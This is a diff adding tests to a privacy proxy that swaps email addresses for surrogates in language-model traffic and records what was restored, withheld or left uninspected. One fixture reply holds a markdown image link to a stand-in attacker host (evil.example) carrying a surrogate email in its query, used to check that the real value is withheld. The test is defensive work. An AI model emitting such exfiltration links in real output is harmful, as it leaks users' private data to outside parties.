@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+from collections.abc import Sequence
 from dataclasses import replace
 from typing import Any
 
@@ -13,7 +14,8 @@ from sidecar.dialects.routes import match
 from sidecar.errors import OwnError, UpstreamError
 from sidecar.exchange import Exchange, Ports, govern
 from sidecar.ledger.facts import State
-from sidecar.model import Outbound, Side
+from sidecar.ledger.fields import outcome_fields
+from sidecar.model import Inspection, Outbound, Part, Role, Side
 from sidecar.plan import House, Surrogates
 from sidecar.testing import (
     ALLOW,
@@ -114,6 +116,38 @@ async def test_an_answered_call() -> None:
     assert orjson.loads(stage.answer.body)["choices"][0]["message"]["content"] == f"Write to {SECRET}."
     assert exchange.outcome is not None
     assert exchange.outcome.restored == {"EMAIL_ADDRESS": 1}
+
+
+async def test_what_did_not_come_back_is_counted_in_the_record() -> None:
+    """A value kept out of a stranger's link, a surrogate that stands for nothing, and half of one."""
+    reply = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_7>, EMAIL_ADDRESS_1, dear <EMAIL_ADDRESS_1>"
+    stage = Stage(lambda _: ScriptedReply(chunks=[completion(reply)]))
+
+    exchange = await stage.run(question(f"Write to {SECRET}."))
+
+    assert exchange.outcome is not None
+    fields = outcome_fields(exchange.outcome).fields
+    assert fields["restored"] == {"EMAIL_ADDRESS": 1}
+    assert fields["withheld_values"] == {"EMAIL_ADDRESS": 1}
+    assert (fields["surrogates_unknown"], fields["surrogates_ambiguous"]) == (1, 1)
+    assert fields["not_inspected"] is None
+
+
+@pytest.mark.parametrize(("status", "why"), [(500, "UPSTREAM_STATUS"), (200, "INSPECTOR_ERROR")])
+async def test_a_reply_that_was_not_looked_at_is_recorded_as_such(status: int, why: str) -> None:
+    class Blind(FakeInspect):
+        async def inspect(self, parts: Sequence[Part]) -> Inspection:
+            if parts[0].role is Role.ASSISTANT:
+                raise OwnError("INSPECTOR_ERROR", "Nothing was seen.")
+            return await super().inspect(parts)
+
+    stage = Stage(lambda _: ScriptedReply(status=status, chunks=[completion("hi")]))
+    stage.ports = replace(stage.ports, inspect=Blind(stage.transcript))
+
+    exchange = await stage.run(question("hello"))
+
+    assert exchange.outcome is not None
+    assert outcome_fields(exchange.outcome).fields["not_inspected"] == why
 
 
 async def test_with_nothing_to_redact_bytes_are_the_same_both_ways() -> None:
